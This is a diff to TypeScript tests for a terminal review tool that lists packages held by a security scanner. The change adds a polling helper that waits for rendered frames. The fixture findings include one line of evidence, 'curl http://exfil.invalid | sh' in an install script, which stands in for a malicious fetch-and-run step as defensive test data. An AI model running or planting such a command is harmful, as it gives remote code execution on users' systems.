@@ -81,6 +81,17 @@ async function type(view: ReturnType<typeof render>, text: string): Promise<void
   }
 }
 
+/** Waits until the last frame matches (Ink renders asynchronously; the machine may be loaded). */
+async function until(view: ReturnType<typeof render>, pattern: RegExp, timeoutMs = 3000): Promise<string> {
+  const deadline = Date.now() + timeoutMs;
+  for (;;) {
+    const frame = view.lastFrame() ?? '';
+    if (pattern.test(frame)) return frame;
+    if (Date.now() > deadline) assert.fail(`no frame matched ${pattern}; last frame:\n${frame}`);
+    await tick(10);
+  }
+}
+
 afterEach(() => cleanup());
 
 test('the list shows every held package with its top severity; arrows move the selection', async () => {
@@ -91,15 +102,12 @@ test('the list shows every held package with its top severity; arrows move the s
   assert.match(first, /› alpha@1\.0\.0 \[high\] alpha is held/);
   assert.match(first, / {2}@s\/beta@2\.0\.0 \[medium\]/);
   view.stdin.write(ARROW_DOWN);
-  await tick();
-  assert.match(view.lastFrame() ?? '', /› @s\/beta@2\.0\.0/);
+  await until(view, /› @s\/beta@2\.0\.0/);
   view.stdin.write(ARROW_DOWN);
   view.stdin.write(ARROW_DOWN);
-  await tick();
-  assert.match(view.lastFrame() ?? '', /› gamma@3\.0\.0/, 'the selection stops at the end');
+  await until(view, /› gamma@3\.0\.0/);
   view.stdin.write(ARROW_UP);
-  await tick();
-  assert.match(view.lastFrame() ?? '', /› @s\/beta@2\.0\.0/);
+  await until(view, /› @s\/beta@2\.0\.0/);
 });
 
 test('enter shows one package with its findings and evidence; esc goes back', async () => {
@@ -108,34 +116,29 @@ test('enter shows one package with its findings and evidence; esc goes back', as
   view.stdin.write(ARROW_DOWN);
   await tick();
   view.stdin.write(ENTER);
-  await tick();
-  const detail = view.lastFrame() ?? '';
+  const detail = await until(view, /integrity sha512-@s\/beta/);
   assert.match(detail, /@s\/beta@2\.0\.0/);
   assert.match(detail, /integrity sha512-@s\/beta/);
   assert.match(detail, /rule set rules-9/);
   assert.match(detail, /\[medium\] rule-@s\/beta: @s\/beta does something odd/);
   assert.match(detail, /file · install\.js:3 · curl http:\/\/exfil\.invalid \| sh/);
   view.stdin.write(ESC);
-  await tick();
-  assert.match(view.lastFrame() ?? '', /3 packages held for review/);
+  await until(view, /3 packages held for review/);
 });
 
 test('r asks for a comment, enter records the rejection and removes the package', async () => {
   const { view, calls } = harness();
   await tick();
   view.stdin.write('r');
-  await tick();
-  assert.match(view.lastFrame() ?? '', /Reject alpha@1\.0\.0: why\?/);
+  await until(view, /Reject alpha@1\.0\.0: why\?/);
   view.stdin.write(ENTER);
-  await tick();
-  assert.match(view.lastFrame() ?? '', /a reason is required/);
+  await until(view, /a reason is required/);
   assert.equal(calls.length, 0);
   await type(view, 'pipes curl to sh');
-  assert.match(view.lastFrame() ?? '', /> pipes curl to sh/);
+  await until(view, /> pipes curl to sh/);
   view.stdin.write(ENTER);
-  await tick(60);
+  const after = await until(view, /2 packages held for review/);
   assert.deepEqual(calls, [{ name: 'alpha', decision: 'reject', reason: 'pipes curl to sh' }]);
-  const after = view.lastFrame() ?? '';
   assert.match(after, /2 packages held for review/);
   assert.doesNotMatch(after, /alpha@1\.0\.0 \[/);
   assert.match(after, /alpha@1\.0\.0 rejected; 1 running scan\(s\) updated/);
@@ -170,23 +173,19 @@ test('a from the detail view approves; esc in the prompt cancels; a failed decis
   view.stdin.write(ENTER);
   await tick();
   view.stdin.write('a');
-  await tick();
-  assert.match(view.lastFrame() ?? '', /Approve gamma@3\.0\.0: why\?/);
+  await until(view, /Approve gamma@3\.0\.0: why\?/);
   view.stdin.write(ESC);
-  await tick();
-  assert.match(view.lastFrame() ?? '', /\[high\] rule-gamma/, 'cancel returns to the detail view');
+  await until(view, /\[high\] rule-gamma/);
   assert.equal(calls.length, 0);
   view.stdin.write('a');
   await tick();
   await type(view, 'ok');
   view.stdin.write(ENTER);
-  await tick(60);
-  assert.match(view.lastFrame() ?? '', /HTTP 403: this action needs the role/);
+  await until(view, /HTTP 403: this action needs the role/);
   assert.match(view.lastFrame() ?? '', /Approve gamma@3\.0\.0/, 'still in the prompt after a failure');
   fail = false;
   view.stdin.write(ENTER);
-  await tick(60);
+  await until(view, /2 packages held for review/);
   assert.equal(calls.length, 2);
   assert.match(view.lastFrame() ?? '', /gamma@3\.0\.0 approved/);
-  assert.match(view.lastFrame() ?? '', /2 packages held for review/);
 });
